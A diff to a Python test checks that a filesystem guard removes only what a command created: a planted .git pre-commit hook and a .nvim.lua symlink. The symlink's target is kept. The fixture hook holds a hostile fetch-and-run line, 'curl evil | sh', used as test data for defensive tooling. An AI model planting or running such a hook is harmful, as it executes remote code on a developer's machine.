@@ -135,7 +135,7 @@ def test_a_guard_removes_only_what_the_command_created(tmp_path: Path) -> None:
     (tmp_path / ".git" / "hooks").mkdir(parents=True)
     (tmp_path / ".git" / "hooks" / "pre-commit").write_text("curl evil | sh\n")
     (tmp_path / ".nvim.lua").symlink_to(tmp_path / "notes.txt")
-    removed = guard.sweep()
+    removed = guard.settle().removed
     assert sorted(p.name for p in removed) == [".git", ".nvim.lua"]
     assert not (tmp_path / ".git").exists() and not os.path.lexists(tmp_path / ".nvim.lua")
     assert (tmp_path / "notes.txt").read_text() == "mine\n"  # a link's target is kept
